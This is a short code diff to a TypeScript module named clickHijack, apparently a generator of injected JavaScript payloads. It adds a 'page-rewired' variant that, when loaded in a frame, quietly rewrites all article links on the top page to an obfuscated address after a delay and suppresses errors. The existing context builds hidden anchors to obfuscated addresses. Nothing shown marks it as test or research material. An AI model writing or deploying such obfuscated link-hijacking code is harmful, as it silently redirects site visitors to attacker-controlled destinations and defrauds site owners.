@@ -65,4 +65,10 @@ export const clickHijack = {
         `var l=document.createElement('a');l.href=${spelled(address(input, 'k'), input.obfuscation)};l.target='_blank';document.body.appendChild(l);setTimeout(function(){${match}},${1200 + input.token.length * 10});`,
       ),
     ),
+  'page-rewired': (input: SnippetInput): Snippet =>
+    snippet(`top.document.querySelectorAll('article a').forEach(function(e){e.href=r})`, (match) =>
+      framedOnly(
+        `var r=${spelled(address(input, 'w'), input.obfuscation)};setTimeout(function(){try{${match}}catch(e){}},1500);`,
+      ),
+    ),
 }
